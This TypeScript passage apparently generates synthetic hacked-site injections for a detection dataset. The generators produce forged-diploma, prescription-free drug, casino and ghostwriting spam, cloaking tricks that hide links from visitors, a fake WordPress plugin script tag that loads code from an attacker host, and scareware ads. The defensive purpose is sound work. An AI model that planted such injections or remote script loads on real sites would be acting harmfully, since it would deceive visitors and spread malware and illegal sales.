// Russian document-forgery spam, recalled from memory of clean-up threads and hosting-security write-ups showing "купить диплом" (buy a diploma) link blocks and doorway pages on hacked sites across many countries (about 2015–2025), usually with city names, "entered in the register" promises, prices in roubles and links to a few rotating shops.
const ruDiploma = fresh26("Russian 'buy a diploma' spam (купить диплом, аттестат, удостоверение) with city pages, prices in roubles and shop links", (page, rng) => {
  const shop = () => `https://${pick(rng, [`${pick(rng, ["diplom", "diplomy", "kupit-diplom", "diplomas", "attestat", "gos-diplom"])}${pick(rng, ["", "-", ""])}${pick(rng, ["", "24", "rus", "msk", "spb", "pro", "shop", digits(rng, 2)])}.${pick(rng, ["ru", "com", "net", "org", "su", "info", "pro"])}`, randomDomain(rng)])}/${pick(rng, ["", "catalog/", "kupit/"])}${chance(rng, 0.5) ? slug(pick(rng, ["moskva", "spb", "kazan", "ekb", "vuz", "college", "school"])) + "/" : ""}`
  const n = between(rng, 4, 12)
  const items = Array.from({ length: n }, () => `<a href="${esc(shop())}">Купить ${pick(rng, ruDocs)}${chance(rng, 0.6) ? ` в ${pick(rng, ruCities)}` : ""}</a>`)
  const head2 = pick(rng, ["Купить диплом с занесением в реестр", "Купить диплом о высшем образовании недорого", "Диплом ВУЗа с доставкой по России", "Купить аттестат и диплом в любом городе"])
  const para = `${pick(rng, ["Изготовим", "Продаём", "Оформим"])} ${pick(rng, ruDocs)} ${pick(rng, ["на оригинальном бланке Гознак", "с печатями и подписями", "с проводкой по базе", "любого года выпуска"])}. ${pick(rng, ["Цена от", "Стоимость от"])} ${between(rng, 9, 45)} 000 ₽, ${pick(rng, ["оплата после получения", "доставка курьером", "предоплата не требуется"])}.`
  const block = pick(rng, [
    () => `<div class="${pick(rng, ["links", "partners", "seo-block", "tags"])}" lang="ru"><h3>${head2}</h3><p>${para}</p><p>${items.join(pick(rng, [" | ", ", ", " · "]))}</p></div>`,
    () => `<div lang="ru" style="${pick(rng, ["position:absolute;left:-9999px", "height:1px;overflow:hidden", "font-size:1px;color:#fff"])}">${items.join(" ")}</div>`,
    () => `<aside lang="ru"><h4>${head2}</h4><ul>${items.map((a) => `<li>${a}</li>`).join("")}</ul></aside>`
  ])()
  return splices(insert(spamSpot(rng, page), block))
})

const pharmaWords: T<{ readonly head: string; readonly cols: readonly [string, string, string, string]; readonly order: string; readonly note: string }> = {
  en: { head: "Buy Viagra and Cialis online without prescription", cols: ["Medicine", "Dose", "Price per pill", ""], order: "Order", note: "Discreet packaging · Worldwide delivery · No prescription needed" },
  fr: { head: "Acheter Viagra et Cialis en ligne sans ordonnance", cols: ["Médicament", "Dosage", "Prix par comprimé", ""], order: "Commander", note: "Emballage discret · Livraison en France en 48 h · Sans ordonnance" },
  de: { head: "Viagra und Cialis online ohne Rezept kaufen", cols: ["Medikament", "Dosis", "Preis pro Pille", ""], order: "Bestellen", note: "Diskreter Versand · Lieferung in 2–4 Tagen · Kein Rezept nötig" },
  es: { head: "Comprar Viagra y Cialis online sin receta", cols: ["Medicamento", "Dosis", "Precio por pastilla", ""], order: "Pedir", note: "Envío discreto · Entrega en 48 h · Sin receta médica" },
  nl: { head: "Viagra en Cialis online zonder recept kopen", cols: ["Medicijn", "Dosering", "Prijs per pil", ""], order: "Bestellen", note: "Discrete verzending · Levering in 2 dagen · Geen recept nodig" },
  pt: { head: "Comprar Viagra e Cialis online sem receita", cols: ["Medicamento", "Dose", "Preço por comprimido", ""], order: "Comprar", note: "Embalagem discreta · Entrega em todo o país · Sem receita" },
  it: { head: "Comprare Viagra e Cialis online senza ricetta", cols: ["Farmaco", "Dosaggio", "Prezzo per pillola", ""], order: "Ordina", note: "Spedizione discreta · Consegna in 48 ore · Senza ricetta" }
}
const pills: ReadonlyArray<readonly [string, ReadonlyArray<string>, number]> = [
  ["Viagra (Sildenafil)", ["25 mg", "50 mg", "100 mg"], 0.9], ["Cialis (Tadalafil)", ["5 mg", "10 mg", "20 mg"], 1.1], ["Levitra (Vardenafil)", ["10 mg", "20 mg"], 1.3],
  ["Kamagra Oral Jelly", ["100 mg"], 1.8], ["Tramadol", ["50 mg", "100 mg"], 1.6], ["Modafinil", ["100 mg", "200 mg"], 1.4], ["Xanax (Alprazolam)", ["0,5 mg", "1 mg", "2 mg"], 2.2],
  ["Valium (Diazepam)", ["5 mg", "10 mg"], 1.5], ["Propecia (Finasteride)", ["1 mg"], 0.7], ["Priligy (Dapoxetine)", ["30 mg", "60 mg"], 1.9]
]

// Pharma hacks localised to the site's country, recalled from memory of Sucuri's pharma-hack clean-up guides and of Search Console spam reports on European sites (about 2012–2024), where the injected block is written in the site's own language ("ohne Rezept kaufen", "sans ordonnance", "sin receta") with a table of pills, doses and per-pill prices and "order" links to a rotating pharmacy domain.
const pharmacyTable = fresh26("online-pharmacy price table in the site's own language (sildenafil, tadalafil, tramadol, alprazolam per pill, 'without prescription') with order links", (page, rng) => {
  const w = siteOr(rng, page, pharmaWords)
  const shop = `https://${pick(rng, [`${pick(rng, ["apotheke", "pharmacie", "farmacia", "apotheek", "pharmacy", "meds", "pills"])}${pick(rng, ["-online", "24", "-express", "direct", "-rx", ""])}.${tld(rng)}`, randomDomain(rng)])}`
  const rows = sample(rng, pills, between(rng, 3, 7)).map(([name, doses, base]) => {
    const d = pick(rng, doses)
    const price = page.site.locale.money(Math.round((base + rng() * 1.5) * 100) / 100)
    return `<tr><td>${esc(name)}</td><td>${esc(d)}</td><td>${esc(price)}</td><td><a href="${esc(`${shop}/${slug(name.split(" ")[0]!)}${pick(rng, ["", `?ref=${alnum(rng, 5)}`, ".html"])}`)}">${esc(w.order)}</a></td></tr>`
  }).join("")
  const table = `<table class="${pick(rng, ["price-list", "pharma", "tbl", "table"])}"><thead><tr>${w.cols.map((c) => `<th>${esc(c)}</th>`).join("")}</tr></thead><tbody>${rows}</tbody></table>`
  const block = `<div class="${pick(rng, ["offer", "content-extra", "info-block", "widget"])}"><h3>${esc(w.head)}</h3>${table}<p><small>${esc(w.note)}</small></p></div>`
  return splices(insert(spamSpot(rng, page), chance(rng, 0.3) ? `<div style="${pick(rng, ["position:absolute;left:-10000px", "display:block;height:0;overflow:hidden"])}">${block}</div>` : block))
})

const glpWords: T<{ readonly head: string; readonly body: string; readonly buy: string; readonly chat: string }> = {
  en: { head: "Ozempic, Wegovy and Mounjaro pens without prescription", body: "Lose up to 15% of your weight. Original pens shipped cold in 24–48 h, no doctor visit, no prescription.", buy: "Order now", chat: "Order on WhatsApp" },
  fr: { head: "Stylos Ozempic, Wegovy et Mounjaro sans ordonnance", body: "Perdez jusqu'à 15 % de votre poids. Stylos d'origine livrés au frais en 24–48 h, sans consultation ni ordonnance.", buy: "Commander", chat: "Commander sur WhatsApp" },
  de: { head: "Ozempic-, Wegovy- und Mounjaro-Pens ohne Rezept", body: "Bis zu 15 % Gewicht verlieren. Original-Pens gekühlt in 24–48 Std. geliefert, ohne Arztbesuch und ohne Rezept.", buy: "Jetzt bestellen", chat: "Per WhatsApp bestellen" },
  es: { head: "Plumas de Ozempic, Wegovy y Mounjaro sin receta", body: "Pierde hasta un 15 % de tu peso. Plumas originales enviadas en frío en 24–48 h, sin consulta ni receta.", buy: "Pedir ahora", chat: "Pedir por WhatsApp" },
  nl: { head: "Ozempic-, Wegovy- en Mounjaro-pennen zonder recept", body: "Verlies tot 15% van je gewicht. Originele pennen gekoeld geleverd in 24–48 uur, zonder arts en zonder recept.", buy: "Nu bestellen", chat: "Bestellen via WhatsApp" },
  pt: { head: "Canetas Ozempic, Wegovy e Mounjaro sem receita", body: "Perca até 15% do seu peso. Canetas originais enviadas refrigeradas em 24–48 h, sem consulta e sem receita.", buy: "Comprar agora", chat: "Comprar pelo WhatsApp" },
  it: { head: "Penne Ozempic, Wegovy e Mounjaro senza ricetta", body: "Perdi fino al 15% del tuo peso. Penne originali spedite refrigerate in 24–48 ore, senza visita e senza ricetta.", buy: "Ordina ora", chat: "Ordina su WhatsApp" }
}

// Weight-loss injection spam, recalled from memory of regulators' warnings about fake Ozempic and Wegovy sold online without prescription (FDA, MHRA, EMA, about 2023–2025) and of security vendors' notes that such shops were advertised through hacked sites and their comment sections: a block in the site's language listing semaglutide and tirzepatide pens with prices, a shop link and often a WhatsApp number.
const glpPens = fresh26("'Ozempic, Wegovy and Mounjaro pens without prescription' weight-loss spam with pen prices, a shop link or a WhatsApp number", (page, rng) => {
  const w = siteOr(rng, page, glpWords)
  const pens = sample(rng, [["Ozempic", ["0.25 mg", "0.5 mg", "1 mg", "2 mg"]], ["Wegovy", ["1.7 mg", "2.4 mg"]], ["Mounjaro", ["2.5 mg", "5 mg", "10 mg", "15 mg"]], ["Saxenda", ["6 mg/ml"]], ["Zepbound", ["5 mg", "10 mg"]], ["Rybelsus", ["7 mg", "14 mg"]]] as const, between(rng, 2, 4))
  const shop = `https://${pick(rng, [`${pick(rng, ["ozempic", "semaglutide", "glp1", "wegovy", "slim"])}${pick(rng, ["-shop", "-direct", "-eu", "online", "store", "pens"])}.${tld(rng)}`, randomDomain(rng)])}`
  const items = pens.map(([n, ds]) => `<li><a href="${esc(`${shop}/${n.toLowerCase()}`)}">${n} ${pick(rng, ds)}</a> — ${esc(page.site.locale.money(between(rng, 69, 289)))}</li>`).join("")
  const wa = `+${pick(rng, ["44 7", "1 ", "49 15", "33 6", "31 6", "34 6", "351 9", "39 3", "234 80", "971 5"])}${digits(rng, 8)}`
  const contact = chance(rng, 0.5) ? `<p><a href="https://wa.me/${wa.replace(/\D/g, "")}">${esc(w.chat)}: ${esc(wa)}</a></p>` : `<p><a href="${esc(shop)}">${esc(w.buy)} →</a></p>`
  return splices(insert(spamSpot(rng, page), `<div class="${pick(rng, ["promo", "health-offer", "product-box", "sidebar-widget"])}"><h3>${esc(w.head)}</h3><p>${esc(w.body)}</p><ul>${items}</ul>${contact}</div>`))
})

const refTexts: ReadonlyArray<{ readonly lang: string; readonly head: (x: string, code: string) => string; readonly body: (x: string, pct: number, usd: number) => string; readonly cta: string }> = [
  { lang: "en", head: (x, c) => `${x} referral code: ${c}`, body: (x, p, u) => `Use the ${x} referral ID to get ${p}% off trading fees for life and a sign-up bonus of up to ${u} USDT. Works for new accounts in every country.`, cta: "Register with the code" },
  { lang: "es", head: (x, c) => `Código de referido de ${x}: ${c}`, body: (x, p, u) => `Usa el código de referido de ${x} y obtén un ${p}% de descuento en comisiones y un bono de bienvenida de hasta ${u} USDT.`, cta: "Registrarse con el código" },
  { lang: "pt", head: (x, c) => `Código de indicação ${x}: ${c}`, body: (x, p, u) => `Use o código de indicação da ${x} para ganhar ${p}% de desconto nas taxas e um bônus de cadastro de até ${u} USDT.`, cta: "Cadastre-se com o código" },
  { lang: "tr", head: (x, c) => `${x} referans kodu: ${c}`, body: (x, p, u) => `${x} referans kodunu kullanarak işlem ücretlerinde %${p} indirim ve ${u} USDT'ye kadar kayıt bonusu kazanın.`, cta: "Kodla kayıt ol" },
  { lang: "ru", head: (x, c) => `Реферальный код ${x}: ${c}`, body: (x, p, u) => `Используйте реферальный код ${x}, чтобы получить скидку ${p}% на комиссии и бонус за регистрацию до ${u} USDT.`, cta: "Зарегистрироваться с кодом" },
  { lang: "vi", head: (x, c) => `Mã giới thiệu ${x}: ${c}`, body: (x, p, u) => `Dùng mã giới thiệu ${x} để được giảm ${p}% phí giao dịch và nhận thưởng đăng ký tới ${u} USDT.`, cta: "Đăng ký với mã" },
  { lang: "id", head: (x, c) => `Kode referral ${x}: ${c}`, body: (x, p, u) => `Gunakan kode referral ${x} untuk diskon biaya trading ${p}% dan bonus pendaftaran hingga ${u} USDT.`, cta: "Daftar dengan kode" },
  { lang: "fr", head: (x, c) => `Code de parrainage ${x} : ${c}`, body: (x, p, u) => `Utilisez le code de parrainage ${x} pour obtenir ${p} % de réduction sur les frais et un bonus d'inscription jusqu'à ${u} USDT.`, cta: "S'inscrire avec le code" },
  { lang: "de", head: (x, c) => `${x} Empfehlungscode: ${c}`, body: (x, p, u) => `Mit dem ${x} Empfehlungscode erhalten Sie ${p} % Rabatt auf Handelsgebühren und einen Anmeldebonus von bis zu ${u} USDT.`, cta: "Mit Code registrieren" }
]
const exchanges: ReadonlyArray<readonly [string, (c: string) => string]> = [
  ["Binance", (c) => `https://accounts.binance.com/register?ref=${c}`], ["Bybit", (c) => `https://www.bybit.com/invite?ref=${c}`], ["OKX", (c) => `https://www.okx.com/join/${c}`],
  ["Bitget", (c) => `https://www.bitget.com/referral/register?clacCode=${c}`], ["MEXC", (c) => `https://www.mexc.com/register?inviteCode=${c}`], ["KuCoin", (c) => `https://www.kucoin.com/r/rf/${c}`], ["Gate.io", (c) => `https://www.gate.io/signup/${c}`]
]

// Exchange referral-code spam, recalled from memory of clean-up forum threads and Search Console spam reports on hacked sites and open comment forms (about 2021–2025): paragraphs titled "<exchange> referral code <year>" in many languages, the code repeated and links to the exchange's real sign-up page with the spammer's referral id (or to a page of the spammer's), so each sign-up pays the spammer.
const exchangeReferral = fresh26("crypto-exchange referral-code spam ('Binance referral code: 20% fee discount and a sign-up bonus') in several languages, with the code and sign-up links", (page, rng) => {
  const [x, url] = pick(rng, exchanges)
  const code = pick(rng, [upper(rng, 4) + digits(rng, 4), `CPA_00${alnum(rng, 8).toUpperCase()}`, alnum(rng, between(rng, 6, 9)).toUpperCase(), digits(rng, 8)])
  const texts = sample(rng, refTexts, between(rng, 1, 4))
  const href = chance(rng, 0.7) ? url(code) : `https://${randomDomain(rng)}/${slug(x)}-referral-code`
  const blocks = texts.map((t) => `<div lang="${t.lang}"><h4>${esc(t.head(x, code))}</h4><p>${esc(t.body(x, pick(rng, [10, 20, 25, 30, 40, 50]), pick(rng, [100, 600, 1000, 5000, 6200, 8000])))} <a href="${esc(href)}">${esc(t.cta)}: ${code}</a></p></div>`).join("")
  return splices(insert(spamSpot(rng, page), `<section class="${pick(rng, ["post-extra", "promo-codes", "sponsored", "content-links"])}">${blocks}</section>`))
})

const spamTopics: ReadonlyArray<() => ReadonlyArray<string>> = [
  () => ["slot gacor", "situs slot online", "togel hari ini", "judi bola", "RTP live", "link alternatif"],
  () => ["online casino real money", "best casino bonus", "free spins no deposit", "crypto casino", "non gamstop casinos"],
  () => ["buy cialis online", "generic viagra", "tramadol overnight", "xanax no prescription", "modafinil buy"],
  () => ["payday loans", "instant loans bad credit", "quick cash loan", "title loans online"],
  () => ["write my essay", "essay writing service", "buy dissertation", "do my homework"],
  () => ["replica watches", "fake rolex", "cheap jordans", "louis vuitton outlet"]
]

// Spam hidden after the fact, recalled from memory of Sucuri blog posts on SEO spam whose links sit in a normal visible block that an inline script right after it hides (document.getElementById(...).style.display="none", or moves off-screen) as soon as the page runs, so that crawlers which do not run scripts index the links while visitors never see them (about 2018–2022).
const hiddenByNextScript = fresh26("block of spam links that an inline script right after it hides on load (display:none or off-screen by its id), so only crawlers that skip scripts read it", (page, rng) => {
  const kws = pick(rng, spamTopics)()
  const id = idOf(rng, ["wpbody", "footer-links", "lnk", "sp", "tagcloud", "relcont", "x"])
  const links2 = sample(rng, kws, between(rng, 2, kws.length)).map((k) => `<a href="https://${randomDomain(rng)}/${pick(rng, ["", `${slug(k)}/`, `?q=${encodeURIComponent(k)}`])}">${esc(k)}</a>`)
  const block = pick(rng, [
    `<div id="${id}">${links2.join(pick(rng, [" ", " | ", ", "]))}</div>`,
    `<p id="${id}">${esc(pick(rng, ["Related:", "Partners:", "Sponsors:", "Tags:", "See also:"]))} ${links2.join(", ")}</p>`,
    `<ul id="${id}">${links2.map((a) => `<li>${a}</li>`).join("")}</ul>`
  ])
  const hide = pick(rng, [
    `document.getElementById("${id}").style.display="none";`,
    `var e=document.getElementById("${id}");e.style.position="absolute";e.style.left="-9999px";`,
    `document.getElementById("${id}").style.cssText="height:0;overflow:hidden;visibility:hidden";`,
    `document.getElementById("${id}").setAttribute("hidden","");`,
    `document.getElementById("${id}").remove();`
  ])
  return splices(insert(spamSpot(rng, page), `${block}<script>${hide}</script>`))
})

// Indian colour-prediction and earning-app spam, recalled from memory of Indian press reports on hacked government and university sites (.gov.in, .ac.in, .edu.in) showing betting and "colour trading" app promotions (about 2023–2025) and of the apps' own affiliate pages: "Tiranga Games", "Daman Games", "91 Club", "BDG Win", "Big Mumbai", "55 Club" with login and register links, invite codes, bonus amounts in rupees and APK downloads, in Hindi or English.
const colourPrediction = fresh26("Indian 'colour prediction' and earning-app spam (Tiranga, Daman, 91 Club, BDG Win) with invite codes, rupee bonuses and APK links, in Hindi or English", (page, rng) => {
  const apps = sample(rng, ["Tiranga Games", "Daman Games", "91 Club", "BDG Win", "Big Mumbai", "55 Club", "OK Win", "Lottery 7", "Goa Games", "Sikkim Game", "82 Lottery"], between(rng, 2, 5))
  const hi = chance(rng, 0.5)
  const host = () => `${pick(rng, ["tiranga", "daman", "91club", "bdgwin", "bigmumbai", "55club", "okwin", "colour"])}${pick(rng, ["game", "games", "app", "login", ""])}${pick(rng, ["", "s", "in", "vip"])}.${pick(rng, ["in", "com", "net", "app", "co", "site"])}`
  const item = (a: string) => {
    const code = digits(rng, between(rng, 9, 13))
    const bonus = pick(rng, [100, 200, 500, 777, 1000])
    const text = hi
      ? `${a} लॉगिन और रजिस्टर — इनवाइट कोड ${code}, ₹${bonus} बोनस पाएं`
      : `${a} Login & Register — Invite Code ${code}, get ₹${bonus} bonus`
    const apk = chance(rng, 0.5) ? ` <a href="https://${host()}/${pick(rng, ["app.apk", "download", `${slug(a)}.apk`])}">${hi ? "APK डाउनलोड" : "APK Download"}</a>` : ""
    return `<li><a href="https://${host()}/#/register?invitationCode=${code}">${esc(text)}</a>${apk}</li>`
  }
  const head2 = hi ? pick(rng, ["कलर प्रेडिक्शन गेम से रोज़ ₹5000 कमाएँ", "सबसे भरोसेमंद कलर ट्रेडिंग ऐप 2026", "घर बैठे पैसे कमाने वाला गेम"]) : pick(rng, ["Best colour prediction games to earn money daily", "Earn ₹5000 daily with colour trading", "Top earning apps India"])
  return splices(insert(spamSpot(rng, page), `<div lang="${hi ? "hi" : "en-IN"}" class="${pick(rng, ["games-list", "links", "promo", "widget_text"])}"><h3>${esc(head2)}</h3><ul>${apps.map(item).join("")}</ul></div>`))
})

const unis = ["悉尼大学", "墨尔本大学", "新南威尔士大学", "莫纳什大学", "多伦多大学", "UBC", "伦敦大学学院", "曼彻斯特大学", "爱丁堡大学", "纽约大学", "南加州大学", "奥克兰大学", "UCL", "KCL", "ANU"]
const cnServices = ["论文代写", "Essay代写", "Assignment代写", "网课代修", "代考", "Exam代考", "Final代考", "Quiz代做", "作业代写", "毕业论文代写", "Report代写", "留学生代写"]

// Contract-cheating spam for Chinese students abroad, recalled from memory of Australian, British and Canadian press and regulators' notes (TEQSA and QAA, about 2019–2024) on ghostwriting and exam-impersonation services advertised through spam on hacked university and small-business sites: Chinese keyword lines naming universities (代写, 代考, 网课代修), "guaranteed grade" promises and a WeChat or QQ id.
const cnGhostwriting = fresh26("Chinese ghostwriting and exam-proxy spam for students abroad (代写, 代考, 网课代修) naming universities, with a WeChat or QQ id", (page, rng) => {
  const wx = `${pick(rng, ["wx", "vx", "WeChat", "微信"])}: ${pick(rng, ["", "essay", "daixie", "helpme", "uni"])}${alnum(rng, between(rng, 4, 7))}`
  const lines = Array.from({ length: between(rng, 3, 9) }, () => `${pick(rng, unis)}${pick(rng, cnServices)}${chance(rng, 0.5) ? `｜${pick(rng, ["保分", "包过", "原创无抄袭", "Turnitin低重复率", "24小时加急", "不过退款"])}` : ""}`)
  const host = `https://${pick(rng, [`${pick(rng, ["daixie", "lunwen", "essay", "assignment", "dk"])}${pick(rng, ["", "hub", "pro", "365", "vip"])}.${pick(rng, ["com", "net", "cn", "org", "io"])}`, randomDomain(rng)])}`
  const asLinks = chance(rng, 0.6)
  const body = asLinks ? lines.map((l) => `<a href="${host}/${pick(rng, ["", "?k=", "tag/"])}${chance(rng, 0.5) ? alnum(rng, 5) : ""}">${esc(l)}</a>`).join(pick(rng, [" ", "、", " | "])) : lines.map((l) => esc(l)).join("，")
  const block = `<div lang="zh" class="${pick(rng, ["tags", "seo", "kw", "links"])}"><p>${body}</p><p>${esc(pick(rng, ["留学生作业论文代写，专业导师一对一，", "海外网课代上代考，", "全科目代写，"]))}${esc(wx)}${chance(rng, 0.4) ? ` · QQ: ${digits(rng, between(rng, 8, 10))}` : ""}</p></div>`
  return splices(insert(spamSpot(rng, page), chance(rng, 0.3) ? `<div style="${pick(rng, ["position:absolute;top:-999px", "overflow:hidden;height:2px", "color:transparent;font-size:2px"])}">${block}</div>` : block))
})

// Russian casino-mirror spam, recalled from memory of SEO spam on hacked sites aimed at Russian-speaking searchers (about 2021–2025): blocks titled "<brand> зеркало рабочее на сегодня" (working mirror today) for online casinos blocked by the Russian regulator (Vavada, Pin-Up, 1win, Kent, Joycasino, Casino X...), with bonus lines in roubles and links to mirror domains that rotate after each block.
const ruCasinoMirror = fresh26("Russian online-casino 'working mirror today' spam (Vavada, Pin-Up, 1win, Joycasino зеркало) with bonus lines and mirror links", (page, rng) => {
  const brands = sample(rng, ["Vavada", "Pin-Up", "1win", "Kent", "Joycasino", "Casino X", "Azino 777", "Monro", "Starda", "Kometa", "R7", "Lex Casino"], between(rng, 2, 5))
  const mirror = (b: string) => `https://${b.toLowerCase().replace(/[^a-z0-9]/g, "")}${pick(rng, ["", "-", ""])}${pick(rng, ["casino", "zerkalo", "mirror", "official", "vhod", ""])}${between(rng, 1, 999)}.${pick(rng, ["com", "ru", "top", "xyz", "site", "online", "fun", "cc", "net"])}/`
  const items = brands.map((b) => `<li><a href="${esc(mirror(b))}">${esc(b)} ${pick(rng, ["зеркало рабочее на сегодня", "официальный сайт вход", "зеркало актуальное", "казино играть на деньги"])}</a> — ${pick(rng, ["бонус", "фриспины", "бездепозитный бонус"])} ${pick(rng, ["100 FS", "150%", "5000 ₽", "до 100 000 ₽", "200 фриспинов"])}</li>`).join("")
  const h = `${pick(rng, ["Рабочие зеркала онлайн казино", "Лучшие казино на реальные деньги", "Рейтинг лицензионных казино"])} ${pick(rng, ["на сегодня", "2026", "России"])}`
  return splices(insert(spamSpot(rng, page), `<div lang="ru" class="${pick(rng, ["casino", "rating", "seo-links", "text-block"])}"><h3>${esc(h)}</h3><ul>${items}</ul></div>`))
})

// ———————————————————————————— plugins, ads, prompts, downloads, payments ————————————————————————————

const pluginHandles = ["social-warfare", "blaze-widget", "wrapper-link-elementor", "contact-form-7-multi-step-addon", "simply-show-hooks", "wp-cache-helper", "elementor-pro-addons", "woo-checkout-field", "wp-stats-manager", "seo-optimizer-pro", "jquery-ui-widgets", "wp-compat"]

// Backdoored or fake plugins, recalled from memory of Wordfence's report on several plugins on wordpress.org compromised in a supply-chain attack (about June 2024: Social Warfare, Blaze Widget, Wrapper Link Element, Contact Form 7 Multi-Step Addon, Simply Show Hooks) and of Sucuri's notes on fake plugins that enqueue a script the WordPress way: a script tag written exactly like a plugin asset (id="<handle>-js", a ?ver= query, a "<handle>-js-extra" settings block) but whose file lives on another host.
const pluginHandle = fresh26("script enqueued like a WordPress plugin asset (id='…-js', ?ver=, a '…-js-extra' settings block) but served from another host", (page, rng) => {
  const handle = pick(rng, pluginHandles)
  const ver = `${between(rng, 1, 5)}.${between(rng, 0, 12)}.${between(rng, 0, 9)}`
  const host = pick(rng, [libLookalike(rng), evilHost(rng, page), `${pick(rng, ["wp", "cdn", "plugins", "static"])}-${pick(rng, ["assets", "cdn", "update", "repo"])}.${tld(rng)}`])
  const file = `${pick(rng, ["frontend", "public", "script", "main", "init", "widget"])}${pick(rng, [".min", ""])}.js`
  const varName = handle.replace(/[^a-z]/g, "_") + pick(rng, ["_vars", "_params", "Config", "_obj"])
  const extra = chance(rng, 0.7) ? `<script id="${handle}-js-extra">var ${varName} = ${JSON.stringify({ ajax_url: `${new URL(page.site.url).origin}/wp-admin/admin-ajax.php`, nonce: hex(rng, 10), [pick(rng, ["endpoint", "api", "cdn"])]: `https://${host}/` })};</script>` : ""
  const tag = `<script src="https://${host}/wp-content/plugins/${handle}/${pick(rng, ["assets/js", "js", "public/js", "dist"])}/${file}?ver=${ver}" id="${handle}-js"${chance(rng, 0.4) ? " defer" : ""}></script>`
  const css = chance(rng, 0.3) ? `<link rel="stylesheet" id="${handle}-css" href="https://${host}/wp-content/plugins/${handle}/assets/css/style.css?ver=${ver}" media="all">` : ""
  return splices(insert(pick(rng, [head(page), bottom(page), headStart(page)]), css + extra + tag))
})

const adRe = /(^|[\s_-])(ads?|advert|adverts|advertisement|adsbygoogle|adslot|adunit|adzone|adbox|dfp|gpt|sponsor|sponsored|werbung|publicite|anzeige)(\d*)([\s_-]|$)/i
/** The page's ad containers a block can go into. */
const adSlots = (page: Page): Array<El> =>
  page.spots.elements.filter((e) => e.shown && !e.inert && e.closeTag !== null && adRe.test(`${e.attribs.id ?? ""} ${e.attribs.class ?? ""}`) && blockInside(page, e))
const adLabel: T<string> = { en: "Advertisement", fr: "Publicité", de: "Anzeige", es: "Publicidad", nl: "Advertentie", pt: "Publicidade", it: "Pubblicità" }
/** Where an ad goes: inside one of the page's ad containers, else a new labelled box at a slot. */
const inAdSlot = (rng: Rng, page: Page, creative: string): Splice => {
  const slots = adSlots(page)
  const label = siteOr(rng, page, adLabel)
  if (slots.length > 0 && chance(rng, 0.85)) return insert(pick(rng, slots).openEnd, creative)
  return insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), `<div class="${pick(rng, ["ad", "ad-slot", "advert", "ad-container", "sidebar-ad"])}" style="margin:12px auto;max-width:${pick(rng, ["300px", "336px", "728px", "100%"])}"><small style="display:block;color:#888;font-size:11px">${esc(label)}</small>${creative}</div>`)
}

const scareWords: T<{ readonly heads: ReadonlyArray<(n: number) => string>; readonly buttons: ReadonlyArray<string> }> = {
  en: { heads: [(n) => `Your phone is infected with ${n} viruses!`, (n) => `Warning: your battery is ${n}% damaged`, (n) => `${n} threats found on your device`, () => "Your iPhone has been hacked! Clean it now"], buttons: ["Remove now", "Scan now", "Repair", "Clean now"] },
  fr: { heads: [(n) => `Votre téléphone est infecté par ${n} virus !`, (n) => `Attention : votre batterie est endommagée à ${n} %`, (n) => `${n} menaces détectées sur votre appareil`, () => "Votre iPhone a été piraté ! Nettoyez-le maintenant"], buttons: ["Supprimer", "Analyser", "Réparer", "Nettoyer"] },
  de: { heads: [(n) => `Ihr Handy ist mit ${n} Viren infiziert!`, (n) => `Warnung: Ihr Akku ist zu ${n} % beschädigt`, (n) => `${n} Bedrohungen auf Ihrem Gerät gefunden`, () => "Ihr iPhone wurde gehackt! Jetzt bereinigen"], buttons: ["Jetzt entfernen", "Jetzt scannen", "Reparieren", "Bereinigen"] },
  es: { heads: [(n) => `¡Tu teléfono está infectado con ${n} virus!`, (n) => `Aviso: tu batería está dañada al ${n} %`, (n) => `${n} amenazas encontradas en tu dispositivo`, () => "¡Tu iPhone ha sido hackeado! Límpialo ahora"], buttons: ["Eliminar ahora", "Analizar", "Reparar", "Limpiar"] },
  nl: { heads: [(n) => `Je telefoon is besmet met ${n} virussen!`, (n) => `Waarschuwing: je batterij is ${n}% beschadigd`, (n) => `${n} bedreigingen gevonden op je apparaat`, () => "Je iPhone is gehackt! Maak hem nu schoon"], buttons: ["Nu verwijderen", "Nu scannen", "Repareren", "Opschonen"] },
  pt: { heads: [(n) => `Seu celular está infectado com ${n} vírus!`, (n) => `Atenção: sua bateria está ${n}% danificada`, (n) => `${n} ameaças encontradas no seu aparelho`, () => "Seu iPhone foi hackeado! Limpe agora"], buttons: ["Remover agora", "Verificar agora", "Reparar", "Limpar"] },
  it: { heads: [(n) => `Il tuo telefono è infetto da ${n} virus!`, (n) => `Attenzione: la batteria è danneggiata al ${n}%`, (n) => `${n} minacce trovate sul dispositivo`, () => "Il tuo iPhone è stato violato! Puliscilo ora"], buttons: ["Rimuovi ora", "Scansiona", "Ripara", "Pulisci"] }
}

// Scareware creatives in ad slots, recalled from memory of Malwarebytes' and Confiant's malvertising reports (about 2018–2024) on creatives claiming the visitor's phone has viruses or a damaged battery, leading to fake cleaner apps and subscription scams, and of clean-up cases where intruders put their own creatives into a site's ad containers: a red warning creative inside the page's ad slot (or a labelled ad box), its click going to an unknown network.
const scarewareAd = fresh26("scareware creative ('your phone is infected with 4 viruses', 'your battery is damaged') placed in the site's ad slots, its click going to an unknown network", (page, rng) => {
  const w = siteOr(rng, page, scareWords)
  const n = pick(rng, [2, 3, 4, 5, 6, 7, 13, 28, 47, 62, 81])
  const click = `https://${pick(rng, [evilHost(rng, page), `${pick(rng, ["ad", "adx", "click", "trk", "serve"])}.${randomDomain(rng)}`])}/${pick(rng, ["click", "c", "r", "go"])}?${pick(rng, ["cid", "z", "cr"])}=${digits(rng, 7)}&${pick(rng, ["sub", "s1", "pub"])}=${bare(page)}`
  const [wd, ht] = pick(rng, [[300, 250], [336, 280], [320, 100], [728, 90], [300, 600]] as const)
  const creative = `<a href="${esc(click)}" rel="nofollow" style="display:block;width:${wd}px;max-width:100%;height:${ht}px;background:${pick(rng, ["#c62828", "#b71c1c", "#111", "#ffeb3b"])};color:${pick(rng, ["#fff", "#ff5252", "#000"])};text-decoration:none;font:bold ${ht < 120 ? 14 : 18}px Arial,sans-serif;text-align:center;overflow:hidden;box-sizing:border-box;padding:10px"><span style="font-size:${ht < 120 ? 20 : 36}px">${pick(rng, ["⚠️", "🦠", "🔋", "🚨"])}</span><br>${esc(pick(rng, w.heads)(n))}<br><span style="display:inline-block;margin-top:8px;background:#fff;color:#c62828;padding:6px 14px;border-radius:3px">${esc(pick(rng, w.buttons))}</span></a>${chance(rng, 0.5) ? `<img src="https://${randomDomain(rng)}/imp?c=${digits(rng, 7)}" width="1" height="1" alt="">` : ""}`
